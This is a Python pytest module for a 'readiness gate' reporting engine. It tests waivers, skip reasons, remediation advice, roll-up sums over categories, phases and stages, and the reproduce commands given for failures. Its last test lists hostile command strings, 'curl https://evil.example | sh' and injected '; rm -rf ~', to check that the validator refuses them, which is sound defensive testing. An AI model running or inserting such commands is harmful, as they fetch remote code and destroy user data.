"""From what ran to the items of the report: reasons, causes, waivers, sums."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from readiness_gate.engine.plan import PlannedItem
from readiness_gate.engine.policy import StandingWaiver
from readiness_gate.engine.results import OtherHalf, results, unnecessary, waived
from readiness_gate.engine.run import Executed
from readiness_gate.errors import ConfigurationError
from readiness_gate.model.item import ItemResult
from readiness_gate.model.outcome import Conclusion, ErrorClass, Half, Outcome, SkippedBy, Stage
from readiness_gate.model.result import (
    CheckResult,
    cannot_tell,
    failed,
    not_applicable,
    not_supported,
    passed,
    pending,
)
from tests.engine.builders import items, scope

BOTH = frozenset(Half)
ANSWERS = {
    "passed": passed("seen"),
    "failed": failed("broken"),
    "pending": pending("waits", waiting_for="#14"),
    "skipped": not_applicable("not here"),
    **{
        f"error-{one.value}": cannot_tell(one, "unclear")
        for one in ErrorClass
    },
}  # fmt: skip


def waiver(id_: str) -> StandingWaiver:
    return StandingWaiver(id_, "agreed", "maintainer", "2026-12-31")


def found(
    planned: tuple[PlannedItem, ...],
    answers: dict[str, CheckResult] | None = None,
    *,
    cause: str | None = None,
    waived: tuple[str, ...] = (),
    halves: frozenset[Half] = BOTH,
    other: OtherHalf | None = None,
) -> dict[str, ItemResult]:
    """Results where every check gave the answer of its item, and passed without one."""
    given_answers = answers or {}
    executed = {
        one.key: Executed(given_answers.get(item.id, passed("seen")), cause=cause)
        for item in planned
        for one in item.checks
    }
    listed = results(
        planned,
        executed,
        waivers={id_: waiver(id_) for id_ in waived},
        other_half=other,
        halves=halves,
    )
    assert [one.id for one in listed] == [item.id for item in planned if item.half in halves]
    return {one.id: one for one in listed}


@pytest.mark.parametrize("name", list(ANSWERS))
@pytest.mark.parametrize("waived", [False, True])
def test_a_waiver_lets_failed_and_pending_pass_and_nothing_else(name: str, waived: bool) -> None:
    answer = ANSWERS[name]
    item = found(items("items: {a: http}"), {"a": answer}, waived=("a",) if waived else ())["a"]
    if waived and name in {"failed", "pending"}:
        assert item.outcome is Outcome.WAIVED
        assert item.summary == "waived until 2026-12-31 by maintainer: agreed"
        assert item.details == f"would be {name}: {answer.summary}"
    else:
        assert item.outcome is answer.outcome
        assert item.summary == answer.summary


def test_an_item_that_never_began_is_an_infrastructure_error() -> None:
    (item,) = results(
        items("items: {a: http}"), {}, waivers={"a": waiver("a")}, other_half=None, halves=BOTH
    )
    assert (item.outcome, item.error_class) == (Outcome.ERROR, ErrorClass.INFRASTRUCTURE)
    assert "not begun" in item.summary


def test_an_unfinished_binding_is_pending_whatever_its_check_would_say() -> None:
    item = found(items("items: {a: {check: http, todo: steps missing}}"))["a"]
    assert (item.outcome, item.details) == (Outcome.PENDING, "steps missing")
    assert item.waiting_for
    assert item.remediation == "steps missing"


@pytest.mark.parametrize(
    ("text", "by"),
    [
        ("a: {check: http, stage: scheduled}", SkippedBy.STAGE),
        ("a: {check: http, when: {labels: [x]}}", SkippedBy.WHEN),
    ],
)
def test_what_was_skipped_says_by_what(text: str, by: SkippedBy) -> None:
    item = found(items(f"items: {{{text}}}"))["a"]
    assert (item.outcome, item.skipped_by) == (Outcome.SKIPPED, by)
    assert item.summary


def test_what_does_not_apply_is_skipped_by_its_check() -> None:
    item = found(items("items: {a: http}"), {"a": not_applicable("no pull request")})["a"]
    assert (item.skipped_by, item.summary) == (SkippedBy.CHECK, "no pull request")


def test_what_the_driver_cannot_do_is_skipped_only_where_a_section_asked() -> None:
    unsupported = not_supported("no images")
    asked = found(items("stack: {}\nitems: {i: image-build}"), {"i": unsupported})["i"]
    assert (asked.outcome, asked.error_class) == (Outcome.ERROR, ErrorClass.CONFIGURATION)
    brought = found(items("stack: {}"), {"image-build": unsupported})["image-build"]
    assert (brought.outcome, brought.skipped_by) == (Outcome.SKIPPED, SkippedBy.CHECK)


def test_a_brought_item_that_only_cannot_tell_stays_an_error() -> None:
    error = cannot_tell(ErrorClass.CONFIGURATION, "wrong")
    assert found(items("stack: {}"), {"image-build": error})["image-build"].outcome is Outcome.ERROR


def test_the_cause_is_the_item_that_reports_the_step() -> None:
    planned = items("items: {page: http, built: image-build}")
    answer = cannot_tell(ErrorClass.PREREQUISITE, "not run: no image")
    assert found(planned, {"page": answer}, cause="image-build")["page"].cause == "built"
    assert found(planned, {"page": failed("404")}, cause="image-build")["page"].cause is None


@pytest.mark.parametrize("name", list(ANSWERS))
def test_advice_of_the_check_stands_only_where_something_is_to_do(name: str) -> None:
    item = found(items("items: {a: http}"), {"a": ANSWERS[name]})["a"]
    nothing = name in {"passed", "skipped", "error-prerequisite"}
    assert item.remediation == ("" if nothing else "advice of http")


def test_advice_of_the_result_is_better_than_that_of_the_check() -> None:
    answer = failed("404", remediation="mount the route")
    assert found(items("items: {a: http}"), {"a": answer})["a"].remediation == "mount the route"


def test_only_the_halves_of_the_run_are_answered() -> None:
    planned = items("merge: {}\nitems: {a: http}")
    assert list(found(planned, halves=frozenset({Half.MERGE}))) == ["dependencies-merged"]
    assert list(found(planned, halves=frozenset({Half.CHECKS}))) == ["a"]


def test_a_waiver_that_was_not_needed_is_named() -> None:
    planned = items("items: {a: http, b: file-exists}")
    listed = list(found(planned, {"b": failed("gone")}, waived=("a", "b")).values())
    assert unnecessary(listed, {"a": waiver("a"), "b": waiver("b")}) == (
        "the waiver for a is no longer needed",
    )


def failing(waiver_: StandingWaiver) -> ItemResult:
    (bare,) = found(items("items: {a: http}"), {"a": failed("84 orphans")}).values()
    return waived(bare, {"a": waiver_})


def test_the_place_of_the_decision_stands_beside_the_reason() -> None:
    seen = failing(waiver("a")._replace(link="https://tracker.example/8"))
    assert seen.summary.endswith("maintainer: agreed (https://tracker.example/8)")


def test_a_waiver_that_is_over_lets_nothing_pass_and_the_item_says_so() -> None:
    over = waiver("a")._replace(ended=True)
    seen = failing(over)
    assert seen.outcome is Outcome.FAILED
    assert seen.summary == "84 orphans; its waiver by maintainer expired on 2026-12-31"
    assert waived(seen, {"a": over}) == seen


def test_what_was_counted_stays_with_the_item() -> None:
    answers = {"a": passed("seen", figures={"tables": 88})}
    assert found(items("items: {a: http}"), answers)["a"].figures == {"tables": 88}
    both = "items: {a: {checks: [http, file-exists]}}"
    assert found(items(both), answers)["a"].figures == {"tables": 88}


# Roll-ups


ALL = "items: {sum: rollup, a: http, b: file-exists}"


@pytest.mark.parametrize("name", list(ANSWERS))
def test_a_roll_up_over_everything_follows_the_worst(name: str) -> None:
    answer = ANSWERS[name]
    summed = found(items(ALL), {"a": answer})["sum"]
    green = {Outcome.PASSED, Outcome.SKIPPED}
    assert (summed.outcome is Outcome.PASSED) == (answer.outcome in green)


def test_a_roll_up_by_category_takes_only_that_category() -> None:
    text = (
        "items: {sum: {check: rollup, with: {category: Web}}, a: {check: http, category: Web},"
        " b: file-exists}"
    )
    assert found(items(text), {"b": failed("gone")})["sum"].outcome is Outcome.PASSED
    assert found(items(text), {"a": failed("404")})["sum"].outcome is Outcome.FAILED


def test_a_later_phase_does_not_block_by_way_of_a_roll_up() -> None:
    text = (
        "phases: [now, then]\nphase: now\nitems:\n  a: file-exists\n"
        "  b: {check: http, phase: then}\n"
        "  sum: rollup\n  later: {check: rollup, phase: then}"
    )
    answers = found(items(text), {"b": failed("broken")})
    assert answers["sum"].outcome is Outcome.PASSED
    assert (answers["later"].outcome, answers["later"].blocking) == (Outcome.FAILED, False)


def test_a_roll_up_of_a_later_roll_up_waits_for_it() -> None:
    text = (
        "items: {all: {check: rollup, with: {items: [some]}},"
        " some: {check: rollup, with: {items: [a]}}, a: http}"
    )
    summed = found(items(text), {"a": failed("404")})
    assert (summed["all"].outcome, summed["some"].outcome) == (Outcome.FAILED, Outcome.FAILED)
    assert found(items(text))["all"].outcome is Outcome.PASSED


def test_two_roll_ups_over_everything_do_not_count_each_other() -> None:
    summed = found(items("items: {one: rollup, other: rollup, a: http}"))
    assert summed["one"].summary == summed["other"].summary == "all 1 ready"


MATRIX = """\
# Security

## Data

- [ ] Encrypted <!-- id: encrypted -->
- [ ] Keys (Phase 1) <!-- id: keys -->

# Operations

- [ ] Backups <!-- id: backups -->

| Category | MVP | Phase 1 |
|---|---|---|
| Security | 50% | 100% |
"""
CELLS = """\
phase: phase-1
items:
  encrypted: http
  keys: {check: http, with: {value: k}}
  backups: file-exists
  mvp: {check: rollup, with: {of: security, phase: mvp, at-least: 100%}}
  phase-1: {check: rollup, with: {of: [Security], phase: phase-1, at-least: 100%}}
  half: {check: rollup, with: {of: [Security, backups], at-least: 50%}}
"""


def test_a_cell_of_a_matrix_sums_up_one_heading_up_to_one_phase() -> None:
    summed = found(items(CELLS, MATRIX), {"keys": failed("old"), "backups": failed("none")})
    assert (summed["mvp"].outcome, summed["mvp"].summary[:6]) == (Outcome.PASSED, "1 of 1")
    assert (summed["phase-1"].outcome, summed["phase-1"].phase) == (Outcome.FAILED, "phase-1")
    assert summed["half"].summary == "1 of 3 passed, 33 %; 50 % asked for"


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ("of: Securty", "there is no item and no heading 'Securty', did you mean 'Security'"),
        ("of: cell", "a rollup cannot sum up itself"),
        ("phase: phase-2", "there is no phase 'phase-2', did you mean 'phase-1'"),
    ],
)
def test_a_roll_up_of_what_is_not_there_is_refused(options: str, message: str) -> None:
    text = f"items: {{cell: {{check: rollup, with: {{{options}}}}}}}"
    with pytest.raises(ConfigurationError, match=message):
        items(text, MATRIX)


def test_a_waived_roll_up_of_a_failure_is_waived_itself_only() -> None:
    summed = found(items(ALL), {"a": failed("404")}, waived=("sum",))
    assert (summed["sum"].outcome, summed["a"].outcome) == (Outcome.WAIVED, Outcome.FAILED)


MERGE_ONLY = frozenset({Half.MERGE})


@pytest.mark.parametrize(
    ("conclusion", "outcome"),
    [
        (None, Outcome.PENDING),
        (Conclusion.PENDING, Outcome.PENDING),
        (Conclusion.FAILURE, Outcome.FAILED),
        (Conclusion.ERROR, Outcome.ERROR),
        (Conclusion.SUCCESS, Outcome.PASSED),
    ],
)
@pytest.mark.parametrize("options", ["", ", with: {items: [a]}", ", with: {category: network}"])
def test_in_split_modes_the_other_half_counts_by_its_status(
    conclusion: Conclusion | None, outcome: Outcome, options: str
) -> None:
    planned = items(f"merge: {{}}\nitems: {{sum: {{check: rollup{options}}}, a: http}}")
    other = OtherHalf(Half.CHECKS, conclusion)
    assert found(planned, halves=MERGE_ONLY, other=other)["sum"].outcome is outcome


def test_without_a_status_to_read_the_half_that_did_not_run_is_not_green() -> None:
    planned = items("merge: {}\nitems: {sum: rollup, a: http}")
    assert found(planned, halves=MERGE_ONLY)["sum"].outcome is Outcome.PENDING


def test_a_half_without_planned_items_is_not_waited_for() -> None:
    planned = items("merge: {}\nitems: {sum: rollup, a: {check: http, stage: scheduled}}")
    summed = found(planned, halves=MERGE_ONLY)["sum"]
    assert summed.outcome is Outcome.PASSED
    assert summed.summary == "all 1 ready; 1 of later stages not due yet"


DEPLOY = """\
phases: [now]
items:
  built: {check: http, category: Web}
  seen: {check: file-exists, stage: pre-deploy, category: Web}
  go: {check: rollup, stage: pre-deploy}
  share: {check: rollup, stage: pre-deploy, with: {category: Web, at-least: 100%}}
  half: {check: rollup, stage: pre-deploy, with: {category: Web, at-least: 50%}}
  mine: {check: rollup, stage: pre-deploy, with: {of: [seen]}}
"""


PASSES, WAITS, FAILS = passed("seen"), pending("open", waiting_for="ops"), failed("broken")


@pytest.mark.parametrize("built", [PASSES, WAITS, FAILS])
def test_a_roll_up_has_what_it_sums_up_of_earlier_stages_asked_for(
    built: CheckResult,
) -> None:
    planned = items(DEPLOY, about=scope(stage=Stage.PRE_DEPLOY))
    assert [item.id for item in planned if item.skipped] == []
    summed = found(planned, {"built": built})
    outcomes = {id_: summed[id_].outcome for id_ in ("built", "go", "share", "half", "mine")}
    assert outcomes == {
        "built": built.outcome, "go": built.outcome, "share": built.outcome,
        "half": Outcome.PASSED, "mine": Outcome.PASSED,
    }  # fmt: skip


def test_in_split_modes_what_is_summed_up_of_earlier_stages_counts_by_the_other_half() -> None:
    planned = items(f"merge: {{}}\n{DEPLOY}", about=scope(stage=Stage.PRE_DEPLOY))
    for status, outcome in ((Conclusion.FAILURE, Outcome.FAILED), (None, Outcome.PENDING)):
        summed = found(planned, halves=MERGE_ONLY, other=OtherHalf(Half.CHECKS, status))
        assert summed["go"].outcome is outcome


def test_nothing_of_an_earlier_stage_is_asked_for_without_a_roll_up_over_it() -> None:
    text = "items: {a: http, b: {check: http, stage: pre-deploy}, %s}"
    about = scope(stage=Stage.PRE_DEPLOY)
    for more in ("go: rollup", "go: {check: rollup, stage: pre-deploy, with: {items: [b]}}"):
        planned = items(text % more, about=about)
        assert "a" in [item.id for item in planned if item.skipped]
    only = scope(stage=Stage.PRE_DEPLOY, only=("go",))
    planned = items(text % "go: {check: rollup, stage: pre-deploy}", about=only)
    assert found(planned)["go"].outcome is Outcome.PENDING


def test_a_later_item_that_a_roll_up_names_is_waited_for() -> None:
    text = "items: {sum: {check: rollup, with: {of: [a, b]}}, a: http, b: {check: http, stage: %s}}"
    for stage in ("pre-deploy", "post-deploy", "scheduled"):
        summed = found(items(text % stage))["sum"]
        assert summed.outcome is Outcome.PENDING
        assert summed.waiting_for == f"what this run was not asked for: b (stage {stage})"


def test_a_roll_up_over_later_items_alone_is_never_green() -> None:
    text = "items: {sum: {check: rollup, with: {category: Web}}, %s}"
    later = "a: {check: http, category: Web, stage: pre-deploy}"
    assert found(items(text % later))["sum"].outcome is Outcome.ERROR


def test_what_was_not_asked_for_leaves_a_roll_up_waiting() -> None:
    summed = found(items(ALL, about=scope(only=("sum", "a"))))["sum"]
    assert summed.outcome is Outcome.PENDING
    assert summed.waiting_for == "what this run was not asked for: b (only)"


def test_a_roll_up_of_another_stage_is_not_waited_for_by_one_over_everything() -> None:
    summed = found(items("items: {sum: rollup, go: {check: rollup, stage: pre-deploy}, a: http}"))
    assert (summed["sum"].outcome, summed["sum"].summary) == (Outcome.PASSED, "all 1 ready")


def test_a_roll_up_of_another_stage_is_skipped() -> None:
    planned = items(ALL, about=scope(stage=Stage.SCHEDULED))
    assert found(planned)["sum"].skipped_by is SkippedBy.STAGE


CHECKS = ["http", "file-exists", "command", "attestation", "rollup"]


@given(
    st.lists(st.tuples(st.sampled_from(CHECKS), st.sampled_from(list(ANSWERS))), max_size=6),
    st.sets(st.integers(0, 5)),
)
def test_every_planned_item_has_one_result_and_no_error_turns_green(
    drawn: list[tuple[str, str]], waived: set[int]
) -> None:
    text = "items:\n" + "\n".join(
        f"  i{at}: {{check: {check}{_value(check, at)}}}" for at, (check, _) in enumerate(drawn)
    )
    planned = items(text if drawn else "")
    answers = {f"i{at}": ANSWERS[name] for at, (_, name) in enumerate(drawn)}
    result = found(planned, answers, waived=tuple(f"i{at}" for at in waived))
    for at, (check, name) in enumerate(drawn):
        outcome = result[f"i{at}"].outcome
        if check != "rollup" and name.startswith("error"):
            assert outcome is Outcome.ERROR
        if check != "rollup" and outcome is Outcome.PASSED:
            assert name == "passed"


def _value(check: str, at: int) -> str:
    return "" if check == "rollup" else f", with: {{value: v{at}}}"


@pytest.mark.parametrize(
    ("answer", "command"),
    [
        (failed("broken"), "readiness-gate run --half checks --only stack-health --keep"),
        (
            cannot_tell(ErrorClass.INFRASTRUCTURE, "unclear"),
            "readiness-gate run --half checks --only stack-health --keep",
        ),
        (cannot_tell(ErrorClass.PREREQUISITE, "not run"), ""),
        (passed("seen"), ""),
    ],
)
def test_a_failure_says_how_it_is_seen_again_on_a_laptop(answer: CheckResult, command: str) -> None:
    planned = items("stack: {}")
    assert found(planned, {"stack-health": answer})["stack-health"].reproduce == command


def test_what_needs_no_stack_keeps_none_and_what_github_knows_is_not_on_a_laptop() -> None:
    broken = {"readme": failed("no"), "merged": failed("no")}
    seen = found(items("items: {readme: file-exists, merged: dependencies-merged}"), broken)
    assert seen["readme"].reproduce == "readiness-gate run --half checks --only readme"
    assert seen["merged"].reproduce == ""


@pytest.mark.parametrize(
    "command",
    ["curl https://evil.example | sh", "readiness-gate run --half checks --only a; rm -rf ~",
     "readiness-gate run --half checks --only a\nrm", "readiness-gate run --only a"],
)  # fmt: skip
def test_a_report_of_a_stranger_cannot_make_up_the_command(command: str) -> None:
    (planned,) = items("items: {readme: file-exists}")
    given = found((planned,), {"readme": failed("no")})["readme"].model_dump(by_alias=True)
    with pytest.raises(ValueError, match="reproduce"):
        ItemResult.model_validate({**given, "reproduce": command})
